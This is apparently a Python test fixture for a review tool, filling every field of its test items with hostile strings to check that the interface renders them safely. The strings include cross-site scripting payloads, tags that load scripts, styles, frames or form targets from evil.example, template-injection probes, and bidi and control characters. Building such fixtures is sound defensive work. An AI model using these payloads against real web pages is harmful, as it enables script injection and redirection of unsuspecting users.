"""Items whose every text wants to run, load, hide or break out."""

from viva.engine.reviews import item_key
from viva.review.items import Item
from viva.types import ANSWER, RATIONALE, ReviewItem

TEXTS = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(2)>',
    "'><svg onload=alert(3)>",
    "</textarea><script>alert(4)</script>",
    "</title></style></details><script src=//evil.example/x.js></script>",
    "<iframe src=https://evil.example/></iframe><meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href=https://evil.example/x.css><base href=https://evil.example/>",
    "<form action=https://evil.example/><input name=csrf><button>Save and next</button></form>",
    "javascript:alert(5)",
    "{{ 7 * 7 }} {% for x in () %} ${7*7} #{7*7}",
    "<!-- --><![CDATA[<script>alert(6)</script>]]>",
    "<a href='javascript:alert(7)' onclick=alert(8) style='position:fixed;inset:0'>click</a>",
    "\u202egnitirw srettel\u202c \u2066isolated\u2069 zero\u200bwidth \ufeff \u00ad soft",
    "\x00\x01\x1b[31mred\x1b[0m\x7f\x85",
    "&lt;script&gt;alert(9)&lt;/script&gt; &#60;img src=x&#62;",
    "Z\u0335\u0321a\u0336\u0322l\u0337g\u0338o" + "\u0301" * 200,
    "W" * 3000,
    "＜script＞alert(10)＜/script＞ \u2028 \u2029 \u3164",
    '<noscript><p title="</noscript><img src=x onerror=alert(11)>">',
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(12)>",
)


def hostile(text: str) -> Item:
    """An item that is this text, wherever a text can be."""
    drafts = tuple(
        ReviewItem(
            aspect=aspect,
            text=text,
            gold=text,
            value=0.5,
            scale=(0.0, 0.5, 1.0),
            decided="judge",
            reasons=text,
            opinions={text: 0.5, "b" + text: 1.0},
        )
        for aspect in (ANSWER, RATIONALE)
    )
    return Item(
        key=item_key(text, text, text, 0, text),
        about={"exam": text, "model": text, "question": text, "sample": text, "type": text, "outcome": text},
        question=text,
        options=(text, text),
        drafts=drafts,
        disagreement=0.5,
    )


HOSTILE = tuple(hostile(text) for text in TEXTS)
